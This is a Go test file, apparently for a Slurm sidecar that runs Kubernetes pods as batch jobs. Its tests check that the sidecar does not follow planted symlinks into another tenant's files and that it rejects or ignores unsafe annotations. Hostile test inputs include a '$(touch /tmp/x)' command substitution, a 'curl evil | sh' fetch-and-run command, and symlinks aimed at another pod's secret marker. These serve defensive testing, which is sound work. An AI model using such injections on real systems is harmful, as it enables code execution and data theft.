	cfg := DefaultConfig()
	if _, err := config.Load(&cfg, flags.Path); err != nil {
		t.Fatal(err)
	}
	got := []any{cfg.ListenAddr(), cfg.SbatchPath, cfg.ScancelPath, cfg.SinfoPath, cfg.SingularityPath, cfg.Tsocks, cfg.TsocksPath, cfg.SharedFS}
	want := []any{"127.0.0.1:4001", "/opt/slurm/bin/sbatch", "/opt/slurm/bin/scancel", "/opt/slurm/bin/sinfo", "/opt/apptainer/bin/singularity", true, "/usr/lib/libtsocks.so", false}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestJobFilesFollowNoSymlink: with sbatch --uid the job's account owns the
// pod's directory; a symlink it plants in place of a file the sidecar reads
// (a log, .exit, .started, the output) or of containers/ itself, leading to
// another pod's data, is not followed, and a FIFO does not block the read.
func TestJobFilesFollowNoSymlink(t *testing.T) {
	cfg, dir := fakeSlurm(t)
	s, err := New(t.Context(), cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = s.Close() }()
	data := testPod()
	if _, err := s.Create(context.Background(), data); err != nil {
		t.Fatal(err)
	}
	jobs := filepath.Join(dir, "jobs")
	pod := "team-a-" + testUID
	other := filepath.Join(jobs, "team-b-x", "data", "volumes", "secret")
	if err := os.MkdirAll(other, 0o700); err != nil {
		t.Fatal(err)
	}
	const secret = "0 2026-01-01T00:00:00Z TOP-SECRET\n" //nolint:gosec // a marker, not a credential
	for _, name := range []string{"main.log", "main.exit", "main.started", "x"} {
		if err := os.WriteFile(filepath.Join(other, name), []byte(secret), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	ctrs := filepath.Join(jobs, pod, containersDir)
	if err := os.MkdirAll(ctrs, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"main.log", "main.exit", "main.started"} {
		if err := os.Symlink("../../team-b-x/data/volumes/secret/"+name, filepath.Join(ctrs, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(pod+"/../team-b-x/data/volumes/secret/x", filepath.Join(jobs, pod+outputSuffix)); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(ctrs, "sidecar.log"), 0o600); err != nil {
		t.Fatal(err)
	}
	logs := func(container string) string {
		t.Helper()
		rc, err := s.Logs(context.Background(), &api.LogRequest{Namespace: "team-a", PodUID: testUID, PodName: "web", ContainerName: container})
		if err != nil {
			return err.Error()
		}
		defer func() { _ = rc.Close() }()
		b, _ := io.ReadAll(rc)
		return string(b)
	}
	if got := logs("main"); strings.Contains(got, "TOP-SECRET") {
		t.Errorf("logs through a planted symlink: %q", got)
	}
	done := make(chan string)
	go func() { done <- logs("sidecar") }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("logs of a FIFO blocked")
	}
	if f := readCtrFiles(s.root, pod, "main"); f.exited || !f.started.IsZero() {
		t.Errorf("status read .exit or .started through a planted symlink: %+v", f)
	}
	if out := outputTail(s.root, pod, 4096); strings.Contains(out, "TOP-SECRET") {
		t.Errorf("the job's output through a planted symlink: %q", out)
	}
	// containers/ itself replaced by a symlink into the other pod's data.
	if err := os.RemoveAll(ctrs); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../team-b-x/data/volumes/secret", ctrs); err != nil {
		t.Fatal(err)
	}
	if got := logs("main"); strings.Contains(got, "TOP-SECRET") {
		t.Errorf("logs through a planted containers/ symlink: %q", got)
	}
	if f := readCtrFiles(s.root, pod, "main"); f.exited {
		t.Errorf("status through a planted containers/ symlink: %+v", f)
	}
	// A regular file still reads.
	if err := os.Remove(ctrs); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(ctrs, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ctrs, "main.exit"), []byte("3 2026-01-01T00:00:00Z\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if f := readCtrFiles(s.root, pod, "main"); !f.exited || f.code != 3 {
		t.Errorf("a regular .exit: %+v", f)
	}
}

// TestAnnotationMountSourceMustExist: a singularity-mounts or enroot-mounts
// source under AllowedHostPaths that does not exist at submit is refused
// naming it: its symlinks could not be resolved.
func TestAnnotationMountSourceMustExist(t *testing.T) {
	allowed := t.TempDir()
	if err := os.Mkdir(filepath.Join(allowed, "there"), 0o755); err != nil {
		t.Fatal(err)
	}
	st := &site{statHost: os.Stat}
	for _, tt := range []struct{ runtime, annotation, value string }{
		{RuntimeSingularity, AnnotationSingularityMounts, "--bind %s:/x"},
		{RuntimeEnroot, AnnotationEnrootMounts, "--mount %s:/x"},
	} {
		cfg := testConfig(t)
		cfg.Runtime, cfg.AllowedHostPaths = tt.runtime, []string{allowed}
		data := testPod()
		missing := filepath.Join(allowed, "later")
		data.Pod.Annotations[tt.annotation] = fmt.Sprintf(tt.value, missing)
		_, err := buildJob(&cfg, st, data, "/d")
		if api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), fmt.Sprintf("bind source %q does not exist", missing)) {
			t.Errorf("%s of a missing source: %v, want a 400 naming it", tt.annotation, err)
		}
		data.Pod.Annotations[tt.annotation] = fmt.Sprintf(tt.value, filepath.Join(allowed, "there"))
		if _, err := buildJob(&cfg, st, data, "/d"); err != nil {
			t.Errorf("%s of an existing source: %v", tt.annotation, err)
		}
	}
}

// TestResourceScriptChildHoldsOutput: a ResourceScriptPath whose child
// keeps its output open (in the background, or past the timeout) fails the
// ping within the timeout and the runner's wait delay, not when the child
// ends.
func TestResourceScriptChildHoldsOutput(t *testing.T) {
	dir := t.TempDir()
	cfg := DefaultConfig()
	cfg.CommandTimeout = config.D(500 * time.Millisecond)
	s := &Sidecar{cfg: cfg, cmd: newCommands(&cfg)}
	for name, body := range map[string]string{
		"background.sh": `sleep 30 & echo '{"resources": {"cpu": "1"}}'`,
		"foreground.sh": `sleep 30`,
	} {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		s.cfg.ResourceScriptPath = p
		start := time.Now()
		_, err := s.Ping(context.Background())
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%s: the ping took %s", name, d)
		}
		if api.ReasonOf(err) != api.ReasonUnavailable || !strings.Contains(err.Error(), "ResourceScriptPath") {
			t.Errorf("%s: %v, want an Unavailable error naming ResourceScriptPath", name, err)
		}
	}
}

// TestFailedSubmissionRemovesOutput: a submission that fails after the
// job's output was made for its uid removes that file with the directory.
func TestFailedSubmissionRemovesOutput(t *testing.T) {
	asEUID(t, 0)
	cfg, dir := fakeSlurm(t)
	me := os.Geteuid()
	cfg.AllowedUIDs = []string{strconv.Itoa(me)}
	s, err := New(t.Context(), cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = s.Close() }()
	data := testPod()
	data.Pod.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr(int64(me))}
	data.Pod.Spec.Containers[0].Args = []string{"REFUSE"}
	if _, err := s.Create(context.Background(), data); api.ReasonOf(err) != api.ReasonInvalid {
		t.Fatalf("create: %v, want Slurm's refusal", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "jobs", "team-a-"+testUID+outputSuffix)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the refused job's output is left: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "jobs", "team-a-"+testUID)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the refused job's directory is left: %v", err)
	}
}

// TestOriginalAnnotationsWithoutEffect: annotations the original plugin
// read without effect (singularity-commands, since 0.4) or that the VK
// handles (interlink.eu/pod-ip) leave the job as it is; the tunnel's
// client commands, which the original runs in the job's shell on the host,
// are refused.
func TestOriginalAnnotationsWithoutEffect(t *testing.T) {
	cfg := testConfig(t)
	base, err := buildJob(&cfg, nil, testPod(), "/d")
	if err != nil {
		t.Fatal(err)
	}
	data := testPod()
	data.Pod.Annotations["slurm-job.vk.io/singularity-commands"] = "$(touch /tmp/x)"
	data.Pod.Annotations["interlink.eu/pod-ip"] = "10.7.0.9"
	j, err := buildJob(&cfg, nil, data, "/d")
	if err != nil {
		t.Fatal(err)
	}
	if j.script != base.script || !slices.Equal(j.args, base.args) {
		t.Error("singularity-commands or pod-ip changed the job")
	}
	data = testPod()
	data.Pod.Annotations[annotationTunnelCommands] = "curl evil | sh"
	if _, err := buildJob(&cfg, nil, data, "/d"); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), annotationTunnelCommands) {
		t.Errorf("tunnel commands: %v, want a 400 naming the annotation", err)
	}
}
